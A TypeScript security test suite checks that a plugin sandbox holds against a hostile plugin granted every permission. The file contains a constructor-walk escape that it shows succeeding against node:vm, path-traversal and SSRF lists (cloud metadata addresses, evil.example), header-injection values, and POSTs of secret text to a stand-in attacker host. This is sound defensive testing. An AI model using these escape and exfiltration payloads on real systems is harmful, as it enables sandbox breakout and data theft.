import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createContext, runInContext } from 'node:vm';
import type { PluginRights } from '../../../language-server/src/plugins/rights.ts';
import { openFakeInternet, publicAddress, type FakeInternet } from '../../support/fakeInternet.ts';
import {
  createPluginHarness,
  type PluginHarness,
  type PluginHarnessOptions,
} from '../../support/pluginHost.ts';
import { bundleWorker } from '../../support/quickjs.ts';
import { until } from '../../support/until.ts';

/** Whatever a person can accept, all of it. The hosts are one public one and one of this machine. */
const everything: PluginRights = [
  { name: 'network', host: 'api.example.org' },
  { name: 'storage', megabytes: 1 },
  ...(['text', 'image', 'speech', 'embedding'] as const).map((kind) => ({ name: 'generate', kind }) as const),
];

/** Walks whatever can be reached from some values and says what of a host can be made from it. */
const walk = `function walk(...roots) {
  const seen = new Set(); const found = new Set(); const waiting = [...roots];
  while (waiting.length > 0 && seen.size < 5000) {
    const at = waiting.pop();
    if ((typeof at !== 'object' && typeof at !== 'function') || at === null || seen.has(at)) continue;
    seen.add(at);
    for (const make of [() => at.constructor, () => at.constructor.constructor, () => at.__proto__.constructor])
      try {
        const Make = make();
        if (typeof Make === 'function') found.add(String(Make('return [typeof process, typeof require, typeof WebAssembly, typeof Buffer].join()')()));
      } catch {}
    for (const key of Reflect.ownKeys(at)) try { waiting.push(at[key]); } catch {}
    waiting.push(Object.getPrototypeOf(at));
  }
  return [...found].filter((text) => text.includes(',') || text === 'object');
}`;
const nothingFound = ['undefined,undefined,undefined,undefined'];

describe('a hostile plugin with every permission', () => {
  let folder = '';
  let script = '';
  let internet: FakeInternet;
  let harness: PluginHarness;
  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'sallyport-plugins-'));
    await bundleWorker(folder);
    script = join(folder, 'plugin-worker.mjs');
    internet = await openFakeInternet();
  });
  after(async () => {
    await internet.close();
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(() => {
    for (const list of [internet.seen, internet.resolved, internet.connected]) list.length = 0;
    internet.names.clear();
    internet.answer = (_request, response) => response.end('ok');
  });
  afterEach(async () => {
    await harness.dispose();
    for (const app of ['notes', 'board']) rmSync(join(folder, 'app-data', `${app}.sqlite`), { force: true });
  });

  const open = (options: Partial<PluginHarnessOptions> = {}): PluginHarness =>
    (harness = createPluginHarness({
      folder,
      script,
      host: { network: internet.network },
      generate: (_by, kind) =>
        Promise.resolve(
          (kind === 'embedding'
            ? { vectors: [[1, 2]], model: 'm' }
            : kind === 'text'
              ? { text: 'hi', model: 'm', stop: 'end' }
              : { mime: 'image/png', base64: 'AAEC', model: 'm' }) as never,
        ),
      ...options,
    }));
  /** Runs the body of an async function `(input, sallyport)` with every permission. */
  const attack = (body: string, input?: unknown, more: { rights?: PluginRights } = {}): Promise<string> => {
    harness.install('notes/attack', {
      source: `${walk}\nexport async function run(input, sallyport) { ${body} }`,
      rights: more.rights ?? everything,
    });
    return harness.outcome('notes/attack', input);
  };

  describe('escape', () => {
    it('[PLUG-06] reaches nothing of the engine from what it is given, gets and catches', async () => {
      open();
      const outcome = await attack(
        `
        const { fetch, storage, generate, random } = sallyport;
        await storage.put('x', 'y');
        const errors = [];
        for (const fails of [() => fetch('http://evil.example/'), () => fetch(1n), () => storage.get('../x'), () => generate.image({}), () => import('node:fs'), () => storage.put('x', {})])
          try { await fails(); } catch (error) { errors.push(error); }
        const given = [await fetch('http://api.example.org/'), await storage.list(), await storage.quota(), await storage.getBytes('x'), await generate.text('x'), await generate.image({ prompt: 'x' }), await generate.embedding({ texts: ['x'] }), random(4)];
        return { found: walk(input, sallyport, globalThis, import.meta, errors, given), errors: errors.length };`,
        { a: [1] },
      );
      assert.equal(outcome, JSON.stringify({ found: nothingFound, errors: 6 }));
    });

    it('[PLUG-06] control: the same walk gets out of node:vm', () => {
      const context = createContext({ fetch: () => undefined });
      const found = runInContext(`${walk}; walk(fetch)`, context) as string[];
      assert.ok(
        found.some((text) => text.startsWith('object,')),
        found.join(' '),
      );
    });

    it('[PLUG-06] what it is given has no prototype and cannot be changed', async () => {
      open();
      const outcome = await attack(`
        const changed = [];
        for (const at of [sallyport, sallyport.storage, sallyport.generate, console])
          { try { at.fetch = 1; } catch (error) { changed.push(error.name); } if (Object.getPrototypeOf(at) !== null || !Object.isFrozen(at)) changed.push('open'); }
        return changed;`);
      assert.equal(outcome, '["TypeError","TypeError","TypeError","TypeError"]');
    });

    it('[PLUG-05] poisoned built-ins are poison to itself alone', async () => {
      open();
      harness.install(
        'notes/neighbour',
        'export const run = (value) => ({ ...value, list: [1].map((n) => n) });',
      );
      await attack(`
        for (const Built of [Object, Array, String, Number, Promise, Map, RegExp, Function, JSON, Reflect])
          for (const key of Reflect.ownKeys(Built.prototype ?? Built))
            try { (Built.prototype ?? Built)[key] = () => { throw new Error('poison'); }; } catch {}
        Object.prototype.polluted = 1; Object.prototype.then = (settle) => settle('stolen'); Object.prototype.toJSON = () => 'stolen';
        return sallyport.storage.list();`);
      assert.equal(await harness.outcome('notes/neighbour', { a: 1 }), '{"a":1,"list":[1]}');
      assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
      assert.equal(({} as Record<string, unknown>)['toJSON'], undefined);
    });

    it('[PLUG-06] a result with __proto__ changes nothing', async () => {
      open();
      const outcome = await attack(
        `return JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');`,
      );
      assert.equal(outcome, '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
      assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    });

    const bombs: readonly (readonly [string, string, RegExp])[] = [
      [
        'nested deeper than is read',
        "return JSON.parse('['.repeat(33) + ']'.repeat(33));",
        /^plugin-failed: .*nested too deep/,
      ],
      [
        'nested ten thousand deep',
        'let deep = []; for (let n = 0; n < 1e4; n++) deep = [deep]; return deep;',
        /^plugin-failed: /,
      ],
      ['too long', "return 'x'.repeat(5e6);", /^too-large: /],
      ['a function', 'return () => 1;', /^plugin-failed: run gave what JSON/],
      ['a circle', 'const a = {}; a.a = a; return a;', /^plugin-failed: TypeError/],
      ['a bigint', 'return 1n;', /^plugin-failed: TypeError/],
    ];
    for (const [what, body, end] of bombs)
      it(`[PLUG-06] a result that is ${what} is its own failure`, async () => {
        open();
        assert.match(await attack(body), end);
        assert.equal(harness.host.state('notes', 'attack').state, 'on');
      });
  });

  describe('files', () => {
    const imports = [
      '/etc/passwd',
      'file:///etc/passwd',
      'node:fs',
      'fs',
      'std',
      'os',
      'bjson',
      '../board/index.js',
      '../../plugin.json',
      './../index.js',
      './plugin.json',
      'https://api.example.org/x.js',
      'data:text/javascript,export default 1',
      'sallyport',
      './index.js?x',
      '.\\index.js',
      './%69ndex.js',
      './INDEX.JS',
    ];
    it('[PLUG-14] imports nothing but its own modules, however it is spelt', async () => {
      open();
      const outcome = await attack(
        `const got = []; for (const name of input) try { await import(name); got.push(name); } catch (error) { if (!/^Cannot import/.test(error.message)) got.push(String(error)); } return got;`,
        imports,
      );
      assert.equal(outcome, '[]');
      // Control: its own module is found by the same call.
      assert.equal(await attack(`return Object.keys(await import('./index.js'));`), '["run"]');
    });

    const paths = [
      '/etc/passwd',
      '../../../../etc/passwd',
      '..',
      '.',
      '',
      'a/../../board',
      '../board',
      'board.sqlite',
      '%2e%2e/board',
      '..\\board',
      'a\0b',
      '__proto__',
      'constructor',
      'a/./b',
      'file:///etc/passwd',
      '~/x',
      '${HOME}',
      'C:\\x',
      '\\\\?\\C:\\x',
      "'; drop table files; --",
      '%',
      '_',
    ];
    it('[PLUG-09] reads no file of the disk and none of another app by any path', async () => {
      open();
      const secret = join(folder, 'secret.txt');
      writeFileSync(secret, 'TOPSECRET');
      harness.storage.put('board', 'own.txt', Buffer.from('TOPSECRET'), 1e6);
      harness.storage.put('board', 'constructor', Buffer.from('TOPSECRET'), 1e6);
      const outcome = await attack(
        `const got = []; for (const path of input) try { got.push(await sallyport.storage.get(path)); } catch (error) { got.push(error.code); }
         for (const prefix of ['', '/', '..', 'board', '%', '_']) try { got.push(...await sallyport.storage.list(prefix)); } catch (error) { got.push(error.code); }
         return got.filter((each) => each !== 'bad-params');`,
        [...paths, secret],
      );
      assert.doesNotMatch(outcome, /TOPSECRET/);
      assert.match(outcome, /^\[(null,?)*(,?"not-allowed")*\]$/);
      assert.equal(String(Buffer.from(harness.storage.get('board', 'own.txt')!.bytes)), 'TOPSECRET');
    });

    it('[PLUG-09] control: a plugin of that app reads it by its plain name', async () => {
      open();
      harness.storage.put('board', 'own.txt', Buffer.from('TOPSECRET'), 1e6);
      harness.install('board/own', {
        source: 'export const run = (_, { storage }) => storage.get("own.txt");',
        rights: everything,
      });
      assert.equal(await harness.outcome('board/own'), '"TOPSECRET"');
    });

    it('[PLUG-09] fills its quota and no more', async () => {
      open();
      const outcome = await attack(`
        const bytes = new Uint8Array(100_000); let files = 0;
        try { for (;;) await sallyport.storage.put('f' + files++, bytes); } catch (error) { return [error.code, files, (await sallyport.storage.quota()).usedBytes]; }`);
      const [code, files, used] = JSON.parse(outcome) as [string, number, number];
      assert.deepEqual([code, files], ['quota', 11]);
      assert.ok(used <= 1024 * 1024);
      // Control: with a larger quota the same writes go on.
      const wider = everything.map((right) =>
        right.name === 'storage' ? { ...right, megabytes: 4 } : right,
      );
      const more = JSON.parse(
        await attack(
          `const bytes = new Uint8Array(100_000); for (let n = 0; n < 20; n++) await sallyport.storage.put('f' + n, bytes); return 20;`,
          null,
          { rights: wider },
        ),
      ) as unknown;
      assert.equal(more, 20);
    });
  });

  describe('other plugins', () => {
    it('[PLUG-01] a neighbour’s memory is not in its own', async () => {
      open();
      harness.install(
        'notes/victim',
        "const kept = Array.from({ length: 2000 }, (_, n) => 'TOPSECRET-OF-ANOTHER-' + n); export const run = () => kept.length;",
      );
      assert.equal(await harness.outcome('notes/victim'), '2000');
      const outcome = await attack(`
        let leaked = 0;
        for (let round = 0; round < 60; round++) {
          const buffer = new ArrayBuffer(8192, { maxByteLength: 16384 }); const view = new Uint8Array(buffer);
          try { const copy = view.with(0, { valueOf() { buffer.resize(8); return 1; } }); let text = ''; for (const byte of copy) text += String.fromCharCode(byte); if (text.includes('OF-ANOTHER')) leaked++; } catch {}
        }
        const blocks = Array.from({ length: 200 }, () => new Uint8Array(65536));
        for (const block of blocks) for (const byte of block) if (byte !== 0) leaked++;
        return leaked;`);
      assert.equal(outcome, '0');
      assert.equal(await harness.outcome('notes/victim'), '2000');
    });

    it('[PLUG-10] it can’t ask in the name of another, nor for what has no name', async () => {
      open();
      const outcome = await attack(`
        const got = [];
        for (const more of [{ app: 'board' }, { plugin: 'own' }, { principal: 'person' }, { rights: [] }])
          try { await sallyport.generate.text({ messages: [{ role: 'user', text: 'x' }], ...more }); got.push(more); } catch (error) { got.push(error.code); }
        return got;`);
      assert.equal(outcome, '["bad-params","bad-params","bad-params","bad-params"]');
      assert.deepEqual(harness.generated, []);
      // Control: without it the question is asked, and in its own name.
      assert.equal(await attack(`return (await sallyport.generate.text('x')).text;`), '"hi"');
      assert.deepEqual(
        harness.generated.map(({ by }) => by),
        ['plugin:notes/attack'],
      );
    });
  });

  describe('network', () => {
    const places = [
      'http://evil.example/?TOPSECRET',
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://100.100.100.200/',
      'http://127.0.0.1/',
      'http://localhost/',
      'http://2130706433/',
      'http://0x7f.1/',
      'http://[::ffff:10.0.0.1]/',
      'http://api.example.org@evil.example/',
      'http://api.example.org.evil.example/',
      'http://api.example.org:22/',
      'https://evil.example/',
      'http://TOPSECRET.evil.example/',
      'ws://api.example.org/',
      'gopher://api.example.org/',
      'file:///etc/passwd',
    ];
    it('[PLUG-08] [PLUG-11] sends nothing to what it did not list, not even a question for its name', async () => {
      open();
      const outcome = await attack(
        `const got = []; for (const url of input) try { await sallyport.fetch(url, { method: 'POST', body: 'TOPSECRET' }); got.push(url); } catch (error) { if (error.code !== 'not-allowed') got.push(url + error); } return got;`,
        places,
      );
      assert.equal(outcome, '[]');
      assert.deepEqual([internet.seen, internet.resolved, internet.connected], [[], [], []]);
      assert.ok(harness.egress.length >= 14, 'each that had a host is in the log');
      assert.ok(
        harness.egress.every(({ by, verdict }) => by === 'plugin:notes/attack' && verdict === 'refused'),
      );
    });

    it('[PLUG-08] control: the same goes out where it is listed', async () => {
      open();
      const rights: PluginRights = [{ name: 'network', host: 'evil.example' }];
      const body = `return (await sallyport.fetch('http://evil.example/?TOPSECRET', { method: 'POST', body: 'TOPSECRET' })).text();`;
      assert.equal(await attack(body, null, { rights }), '"ok"');
      assert.equal(internet.seen[0]?.body, 'TOPSECRET');
    });

    it('[PLUG-08] its host sends it on to metadata, and answers with a local address later', async () => {
      open();
      internet.answer = (_request, response) =>
        response.writeHead(302, { location: 'http://169.254.169.254/' }).end();
      const body = `try { return (await sallyport.fetch('http://api.example.org/')).text(); } catch (error) { return error.code; }`;
      assert.equal(await attack(body), '"not-allowed"');
      internet.names.set('api.example.org', [['127.0.0.1']]);
      assert.equal(await attack(body), '"not-allowed"');
      assert.deepEqual(internet.connected, [publicAddress]);
    });

    it('[PLUG-11] headers that end a line or name another sender don’t go out', async () => {
      open();
      const outcome = await attack(`
        const got = [];
        for (const headers of [{ 'x\\r\\nhost': 'evil' }, { x: 'a\\r\\nhost: evil' }, { x: 'a\\nb' }, { x: 'a\\0' }, { cookie: 'a=b' }, { Host: 'evil' }, { 'transfer-encoding': 'chunked' }, { __proto__: null, 'content-length': '0' }])
          try { await sallyport.fetch('http://api.example.org/', { headers }); got.push(headers); } catch (error) { got.push(error.code); }
        return got;`);
      assert.match(outcome, /^\[("(bad-params|not-allowed)",?)+\]$/);
      assert.deepEqual(internet.seen, []);
    });
  });

  describe('time and number', () => {
    it('[PLUG-03] a thousand things at once are a few at once', async () => {
      let [now, most] = [0, 0];
      open({
        generate: async () => {
          most = Math.max(most, ++now);
          await new Promise((settle) => setTimeout(settle, 5));
          now--;
          return { text: 'hi', model: 'm', stop: 'end' } as never;
        },
      });
      const outcome = await attack(`
        const ends = await Promise.allSettled(Array.from({ length: 1000 }, () => sallyport.generate.text('x')));
        return [ends.filter(({ status }) => status === 'fulfilled').length, ends.filter(({ reason }) => reason?.code === 'too-many').length];`);
      assert.equal(outcome, '[32,968]');
      assert.ok(most > 1 && most <= 32, `${most} at once`);
    });

    it('[PLUG-03] asking on and on ends by number', async () => {
      open({ callMs: 60_000 });
      const outcome = await attack(
        `let done = 0; try { for (;;) { await sallyport.storage.quota(); done++; } } catch (error) { return [error.code, done]; }`,
      );
      assert.equal(outcome, '["too-many",10000]');
    });

    it('[PLUG-03] a question under way does not stop the clock for a native loop', async () => {
      open({ callMs: 300, generate: () => new Promise(() => undefined) });
      const outcome = await attack(`sallyport.generate.text('x'); new Array(1e9).join(''); return 1;`);
      assert.match(outcome, /^timeout: /);
    });

    it('[PLUG-03] nor do questions that are refused at once, over and over', async () => {
      open({ callMs: 300, generate: () => new Promise(() => undefined) });
      const outcome = await attack(`
        for (let n = 0; n < 32; n++) sallyport.generate.text('x');
        for (;;) try { await sallyport.generate.text('x'); } catch {}`);
      assert.match(outcome, /^timeout: /);
    });

    it('[PLUG-12] it does not run on after its call', async () => {
      open({ callMs: 300 });
      assert.match(await attack(`Promise.resolve().then(() => { for (;;); }); return 1;`), /^timeout: /);
      let settle = (): void => undefined;
      await harness.dispose();
      open({
        generate: () =>
          new Promise((done) => (settle = () => done({ text: 'hi', model: 'm', stop: 'end' } as never))),
      });
      const later = `globalThis.ran ??= []; if (input) return globalThis.ran; sallyport.generate.text('x').finally(() => globalThis.ran.push('ran')); return 1;`;
      assert.equal(await attack(later), '1');
      settle();
      await new Promise((next) => setImmediate(next));
      const seen = await attack(later, 'look');
      assert.ok(seen === '[]' || seen === '["ran"]', 'what it left comes within the next call');
    });

    it('[PLUG-04] is switched off after three stops, whatever it does in between', async () => {
      open({ callMs: 100 });
      for (const body of [
        'for (;;);',
        "new Array(1e9).join('');",
        "const kept = []; for (;;) kept.push('x'.repeat(1 << 20) + kept.length);",
      ]) {
        assert.match(await attack(body), /^(timeout|plugin-failed): The plugin was stopped/);
      }
      assert.match(await attack('return 1;'), /^plugin-off: Switched off, as it had to be stopped 3 times/);
      assert.equal(harness.host.state('notes', 'attack').state, 'switched-off');
    });

    it('[PLUG-05] floods its log, and the log is bounded and escaped', async () => {
      open({ callMs: 60_000 });
      assert.equal(
        await attack(`for (let n = 0; n < 1e5; n++) console.log('\\u001b[2J\\u202e', n); return 1;`),
        '1',
      );
      assert.equal(harness.log.length, 200);
      assert.match(harness.log[0] ?? '', /notes\/attack info: \\u\{1B\}\[2J\\u\{202E\} 0$/);
    });

    it('[PLUG-05] deep texts end its own worker at most', async () => {
      open();
      harness.install('notes/neighbour', 'export const run = () => "well";');
      assert.equal(await harness.outcome('notes/neighbour'), '"well"');
      for (const body of [
        "JSON.parse('['.repeat(1e6));",
        "try { JSON.parse('['.repeat(1e6)); } catch {} let deep = []; for (let n = 0; n < 1e6; n++) deep = [deep]; return 1;",
        "eval('('.repeat(1e6));",
        "new RegExp('('.repeat(1e5));",
        "JSON.stringify(JSON.parse('['.repeat(1000) + ']'.repeat(1000))); return 1;",
      ]) {
        await attack(body);
        assert.equal(await harness.outcome('notes/neighbour'), '"well"');
      }
    });
  });

  it('[PLUG-05] a worker that is not what it should be gets nothing done and disturbs nobody', async () => {
    const lying = join(folder, 'lying.mjs');
    writeFileSync(
      lying,
      `import { parentPort } from 'node:worker_threads';
      const tell = (method, params) => parentPort.postMessage({ jsonrpc: '2.0', method, params });
      const generate = (id) => tell('host/call', { id, name: 'generate.text', params: '{"messages":[{"role":"user","text":"x"}]}' });
      generate(1);
      parentPort.postMessage('not a message'); parentPort.postMessage({ jsonrpc: '1.0' }); parentPort.postMessage({ jsonrpc: '2.0', id: 1, result: {} });
      tell('plugin/waiting', { seq: 1e9 }); tell('plugin/log', { level: 'info', text: 'early' }); tell('engine/exit', {});
      parentPort.postMessage({ jsonrpc: '2.0', id: 7, method: 'plugin/load', params: {} });
      tell('worker/ready', {});
      let call;
      parentPort.on('message', ({ id, method, params }) => {
        if (method === 'host/answer' && params.id === -1) parentPort.postMessage({ jsonrpc: '2.0', id: call, result: { kind: 'ok', output: '{' } });
        if (method === 'plugin/load') { generate(2); parentPort.postMessage({ jsonrpc: '2.0', id, result: { problem: null } }); }
        if (method === 'plugin/call') { call = id; generate('x'); generate(-1); }
      });`,
    );
    open({ script: lying });
    assert.match(await attack('return 1;'), /^plugin-failed: .*no JSON/);
    await until(() => harness.host.state('notes', 'attack').lastError !== null);
    assert.deepEqual(harness.generated.length, 1, 'what was asked within a call, once');
    assert.ok(!harness.log.some((line) => line.includes('early')));
  });
});
